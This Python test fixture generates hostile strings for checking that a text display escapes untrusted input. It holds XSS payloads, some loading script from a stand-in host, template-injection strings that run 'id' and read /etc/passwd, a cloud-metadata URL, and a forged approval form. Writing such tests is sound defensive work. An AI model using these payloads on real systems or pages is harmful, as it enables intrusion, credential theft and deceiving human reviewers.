"""500 texts that try to run, to fetch, to break out of the page or to deceive who reads it."""

from __future__ import annotations

import itertools
import random

MARK = "textmod_was_here"  # what a script that ran would set on `window`
STRANGER = "https://stranger.example"

_RUN = f"window.{MARK}=1"
_PAYLOADS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt src={STRANGER}/x.js></sCrIpT>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={STRANGER}/p.png>",
    f'<svg/onload="{_RUN}">',
    f"<svg><script>{_RUN}</script></svg>",
    f'<iframe srcdoc="<script>parent.{_RUN[7:]}</script>"></iframe>',
    f"<iframe src={STRANGER}></iframe>",
    f"<a href=\"javascript:{_RUN}\" autofocus onfocus={_RUN}>click</a>",
    f"<details open ontoggle={_RUN}>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<marquee onstart={_RUN}>",
    f"<style>@import '{STRANGER}/x.css';</style>",
    f"<link rel=stylesheet href={STRANGER}/x.css>",
    f"<base href={STRANGER}/>",
    f"<meta http-equiv=refresh content='0;url={STRANGER}'>",
    f"<form action={STRANGER}><button name=decision value=Approve>Approve</button></form>",
    f"<object data={STRANGER}></object><embed src={STRANGER}>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<math><mtext></p><img src=x onerror={_RUN}>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}{% include '/etc/passwd' %}",
    "${7*7} #{7*7} <%= 7*7 %> {{7*7}} {{constructor.constructor('alert(1)')()}}",
    f"{STRANGER}/a.png http://169.254.169.254/ www.example.com mailto:a@example.com",
    f"[link]({STRANGER}) ![picture]({STRANGER}/p.png) <{STRANGER}>",
    "<div id=page data-key=f data-item=x></div><h1 class=why>Approved by a lead</h1>",
    "<textarea></textarea></title></style></script></article></main></body></html>",
    f"<a ping={STRANGER} href=/queue/decide data-key=d>x</a>",
)  # fmt: skip
_AROUND = (
    "{}", '">{}', "'>{}", "--><!-- -->{}", "]]>{}", "</mark></div>{}", "</textarea></title>{}",
    "&lt;{}", "\x00{}", "\u202e{}\u202c", "\u2067{}", "\u200b{}\ufeff", "\ud800{}", "%3C{}%3E",
    "＜{}＞", "`{}`", "\\x3c{}", "javascript:/*{}*/", "a\u0301\u0302\u0303{}",
    "{}" + "\u0300" * 300,
)  # fmt: skip


def hostile_texts(number: int = 500, seed: int = 19) -> list[str]:
    """Return `number` texts, the same for the same seed; every payload and surrounding is in it."""
    all_of_them = [around.replace("{}", p) for p, around in itertools.product(_PAYLOADS, _AROUND)]
    random.Random(seed).shuffle(all_of_them)  # noqa: S311 - a test's order, no secret
    return all_of_them[:number]
